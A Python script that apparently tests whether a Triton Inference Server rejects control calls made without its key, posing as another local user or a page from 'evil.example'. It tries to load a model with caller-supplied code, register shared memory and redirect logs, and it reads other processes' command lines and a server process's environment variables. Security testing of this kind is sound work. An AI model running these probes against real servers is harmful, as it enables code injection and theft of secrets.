"""Another user of this machine, and a web page: every control call of Triton's, over both protocols, without the key.

Run as a program, with one JSON argument. It imports what it needs, and then becomes `nobody` where it can.
"""

from __future__ import annotations

import contextlib
import encodings.idna
import http.client
import json
import os
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import tritonclient.grpc

NOBODY = 65534
PAGE = {"Content-Type": "text/plain", "Origin": "http://evil.example"}
CONFIG = {
    "backend": "python",
    "input": [{"name": "a", "data_type": "TYPE_FP32", "dims": [1]}],
    "output": [{"name": "b", "data_type": "TYPE_FP32", "dims": [1]}],
}


def http_calls(model: str) -> Iterator[tuple[str, str, Any]]:
    """Method, path and body."""
    files = {"parameters": {"config": json.dumps(CONFIG), "file:1/model.py": model}}
    yield "POST", "/v2/repository/index", {}
    yield "POST", "/v2/repository/models/intruder/load", files
    yield "POST", "/v2/repository/models/add_sub/load", files
    yield "POST", "/v2/repository/models/add_sub/load", {}
    yield "POST", "/v2/repository/models/add_sub/unload", {}
    for kind in ("systemsharedmemory", "cudasharedmemory"):
        yield "GET", f"/v2/{kind}/status", None
        yield "POST", f"/v2/{kind}/region/r/register", {"key": "/r", "offset": 0, "byte_size": 64}
        yield "POST", f"/v2/{kind}/region/r/unregister", {}
        yield "POST", f"/v2/{kind}/unregister", {}
    for path in ("/v2/trace/setting", "/v2/models/add_sub/trace/setting"):
        yield "GET", path, None
        yield "POST", path, {"trace_file": "/tmp/trace", "trace_level": ["TENSORS"]}
    yield "GET", "/v2/logging", None
    yield "POST", "/v2/logging", {"log_file": "/tmp/log", "log_verbose_level": 1}
    yield "GET", "/v2/models/stats", None
    yield "GET", "/v2/models/add_sub/stats", None
    yield "GET", "/v2/models/add_sub/versions/1/stats", None


def grpc_calls(client: Any, model: bytes) -> Iterator[tuple[str, Callable[[], Any]]]:
    """A name, and the call."""
    yield "index", client.get_model_repository_index
    yield "load", lambda: client.load_model("intruder", config=json.dumps(CONFIG), files={"file:1/model.py": model})
    yield "load again", lambda: client.load_model("add_sub")
    yield "unload", lambda: client.unload_model("add_sub")
    yield "shm status", client.get_system_shared_memory_status
    yield "shm register", lambda: client.register_system_shared_memory("r", "/r", 64)
    yield "shm unregister", client.unregister_system_shared_memory
    yield "cuda status", client.get_cuda_shared_memory_status
    yield "cuda register", lambda: client.register_cuda_shared_memory("r", b"AAAA", 0, 64)
    yield "cuda unregister", client.unregister_cuda_shared_memory
    yield "trace", client.get_trace_settings
    yield "trace update", lambda: client.update_trace_settings(settings={"trace_level": ["TENSORS"]})
    yield "log", client.get_log_settings
    yield "log update", lambda: client.update_log_settings({"log_verbose_level": 1})
    yield "statistics", client.get_inference_statistics


def ask(address: str, method: str, path: str, body: Any) -> tuple[int, str]:
    connection = http.client.HTTPConnection(address, timeout=20)
    with contextlib.closing(connection):
        connection.request(method, path, None if body is None else json.dumps(body), PAGE)
        answer = connection.getresponse()
        return answer.status, f"{answer.status} {answer.read().decode(errors='replace')[:300]}"


def main(order: dict[str, Any]) -> dict[str, Any]:
    assert encodings.idna  # what is not imported by now may be out of reach
    if os.getuid() == 0:
        os.setgroups([])
        os.setgid(NOBODY)
        os.setuid(NOBODY)
    control = {}
    for number, (method, path, body) in enumerate(http_calls(order["model"])):
        control[f"http {number} {method} {path}"] = ask(order["http"], method, path, body)[1]
    with tritonclient.grpc.InferenceServerClient(order["grpc"]) as client:
        for name, call in grpc_calls(client, order["model"].encode()):
            try:
                control[f"grpc {name}"] = f"answered: {call()}"
            except tritonclient.grpc.InferenceServerException as error:
                control[f"grpc {name}"] = str(error)
        loaded = [name for name in ("intruder",) if client.is_model_ready(name)]
    tensors = [{"name": name, "datatype": "FP32", "shape": [1, 3], "data": [1.0] * 3} for name in "AB"]
    free = {
        path: ask(order["http"], "GET", path, None)[0]
        for path in (
            "/v2",
            "/v2/health/live",
            "/v2/health/ready",
            "/v2/models/add_sub",
            "/v2/models/add_sub/ready",
            "/v2/models/add_sub/config",
        )
    }
    free["infer"] = ask(order["http"], "POST", "/v2/models/add_sub/infer", {"inputs": tensors})[0]
    lines = []
    for folder in Path("/proc").glob("[0-9]*"):
        with contextlib.suppress(OSError):
            lines.append((folder / "cmdline").read_text(errors="replace"))
    try:
        environment = Path(f"/proc/{order['pid']}/environ").read_text(errors="replace")
    except OSError as error:
        environment = type(error).__name__
    return {"control": control, "free": free, "loaded": loaded, "command_lines": lines, "environment": environment}


if __name__ == "__main__":
    print(json.dumps(main(json.loads(sys.argv[1]))))
